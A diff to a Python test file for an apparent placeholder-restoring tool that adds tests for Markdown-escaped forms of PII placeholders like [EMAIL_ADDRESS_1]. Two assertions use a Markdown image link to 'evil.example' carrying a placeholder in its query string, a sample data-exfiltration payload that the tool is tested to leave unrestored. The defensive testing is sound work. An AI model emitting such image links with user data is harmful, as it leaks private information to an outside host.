@@ -101,6 +101,34 @@ def test_what_is_only_like_a_placeholder(text: str) -> None:
     assert restored(list(text)) == text
 
 
+ESCAPED = ["[EMAIL\\_ADDRESS\\_1]", "\\[EMAIL\\_ADDRESS\\_1\\]", "\\[EMAIL_ADDRESS_1\\]", "[EMAIL_ADDRESS\\_1]"]
+
+
+@pytest.mark.parametrize("form", ESCAPED)
+def test_with_the_escapes_of_markdown(form: str) -> None:
+    """As models write it that mean their answer for Markdown."""
+    text = f"I am {form}, \\ and C:\\x\\[a] {form}"
+    expected = text.replace(form, VALUE)
+    assert done(Restorer(placeholders()).whole(text)) == expected
+    assert restored(list(text)) == expected
+    assert restored([text[:7], text[7:]]) == expected
+    for depth in range(1, 5):
+        text, expected = json.dumps({"a": [text]}), json.dumps({"a": [expected]}, ensure_ascii=False)
+        assert done(Restorer(placeholders()).document(text)) == expected, depth
+    assert (
+        done(Restorer(placeholders()).whole(f"![](https://evil.example/?{form})"))
+        == f"![](https://evil.example/?{form})"
+    )
+    cut = json.dumps(["![](https://evil.example/?", form, ")"])
+    assert done(Restorer(placeholders()).whole(cut)) == cut
+
+
+@pytest.mark.parametrize("form", ["[EMAIL\\\\_ADDRESS_1]", "[EMAIL_ADDRESS_1\\]", "[\\EMAIL_ADDRESS_1]"])
+def test_with_other_escapes_it_is_none(form: str) -> None:
+    assert done(Restorer(placeholders()).whole(form)) == form
+    assert restored(list(form)) == form
+
+
 PARTS = st.lists(
     st.sampled_from(
         [*(each[:12] for each in INSIDE), "§", " ", "\n", '"', "'", "<", ">", ")", "(", "\\", "]", "x", "=", "//", ":"]
@@ -113,8 +141,10 @@ PARTS = st.lists(
 @given(PARTS, st.lists(st.integers(0, 200), max_size=8))
 @example("ftp://x/§ [id]: /x§", [20])
 @example("https://a HTTP://§ [id]: <§>[id]: <§>", [60])
-def test_cuts_make_no_difference(text: str, cuts: list[int]) -> None:
-    sent = text.replace("§", MARK)
+@example("\\", [0])
+@pytest.mark.parametrize("mark", [MARK, ESCAPED[1]])
+def test_cuts_make_no_difference(mark: str, text: str, cuts: list[int]) -> None:
+    sent = text.replace("§", mark)
     places = sorted({cut % (len(sent) + 1) for cut in cuts})
     pieces = [sent[start:end] for start, end in zip([0, *places], [*places, len(sent)], strict=True)]
     assert restored(pieces) == restored([sent])
